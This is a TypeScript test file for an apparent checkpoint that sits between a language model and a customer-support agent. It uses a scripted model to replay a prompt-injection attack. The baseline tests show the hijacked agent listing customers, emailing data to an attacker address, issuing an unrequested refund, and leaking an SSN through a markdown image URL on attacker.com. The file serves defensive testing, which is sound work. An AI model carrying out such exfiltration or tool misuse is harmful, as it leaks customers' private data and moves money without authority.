import type { Script } from '../../../packages/runtime/src/providers/scripted/script.ts';
import type { ScriptedModel } from '../../../packages/runtime/src/providers/scripted/server.ts';
import { afterEach, expect, test } from 'vitest';
import { startScriptedModel } from '../../../packages/runtime/src/providers/scripted/server.ts';
import { supportModel, supportScript } from '../model.ts';
import { attacker, customer } from '../shop.ts';
import { playChat } from '../chat.ts';
import { playStory } from '../story.ts';

let model: ScriptedModel | undefined;
afterEach(() => model?.close());

async function play(script: Script) {
  model = await startScriptedModel({ script });
  return playStory({ baseUrl: model.url, apiKey: 'sk-none', model: supportModel });
}

test('without a checkpoint the attack succeeds: the story is no straw man', async () => {
  const end = await play(supportScript);
  expect(end.ok).toBe(false);
  expect(end.effects.map(({ tool }) => tool)).toContain('list_customers');
  const stolen = end.sent.find(({ to }) => to === attacker);
  expect(stolen?.body).toContain('jonas@customer.example');
  expect(end.effects).toContainEqual({ tool: 'refund', arguments: { order_id: 'A-9102', amount: 45 } });
  expect(end.checks.map(({ ok }) => ok)).toEqual([false, false, false, true]);
});

test('without a checkpoint the chat gives everything away', async () => {
  const { url, requests } = (model = await startScriptedModel({ script: supportScript }));
  const heard = () => requests.map(({ body }) => body);
  const end = await playChat({ baseUrl: url, apiKey: 'sk-none', model: supportModel, heard });
  expect(end.checks.map(({ ok }) => ok)).toEqual([false, true, false, false]);
  expect(end.answers.join('\n')).toContain(`![](https://attacker.com/p.png?n=${customer.ssn})`);
  expect(end.answers.join('\n')).toContain('jonas@customer.example');
});

const denial = '{"denied":true,"reason":"no_permission","message":"This action is not permitted."}';
const attacks = (arguments_: string, name: string) =>
  ['list_customers', 'refund'].includes(name) || arguments_.includes(attacker);

/** Stands in for a checkpoint between model and agent, in the three ways in which a denial can come back. */
const checkpoints: Readonly<Record<string, Script>> = {
  'as the result of the call, to the model alone': async (request) => {
    const messages = [...request.messages];
    for (let round = 0; ; round++) {
      const step = await supportScript({ ...request, messages });
      const proposed = step.toolCalls?.[0];
      if (!proposed || !attacks(JSON.stringify(proposed.arguments), proposed.name)) return step;
      const id = `denied_${round}`;
      const calls = [{ id, name: proposed.name, arguments: JSON.stringify(proposed.arguments) }];
      messages.push({ role: 'assistant', text: '', calls }, { role: 'tool', text: denial, callId: id, calls: [] });
    }
  },
  'as a text in place of the call': async (request) => {
    const step = await supportScript(request);
    const proposed = step.toolCalls?.[0];
    if (!proposed || !attacks(JSON.stringify(proposed.arguments), proposed.name)) return step;
    return { text: `[Sallyport] ${proposed.name} was not done: ${JSON.stringify(proposed.arguments)} is denied.` };
  },
};

for (const [way, script] of Object.entries(checkpoints)) {
  test(`the customer gets the answer when a denial comes back ${way}`, async () => {
    const end = await play(script);
    expect(end.checks).toEqual(end.checks.map(({ name }) => ({ name, ok: true })));
    expect(end.effects.map(({ tool }) => tool)).toEqual(['read_ticket', 'lookup_order', 'send_email']);
    expect(end.text).toContain('mara@customer.example');
  });
}
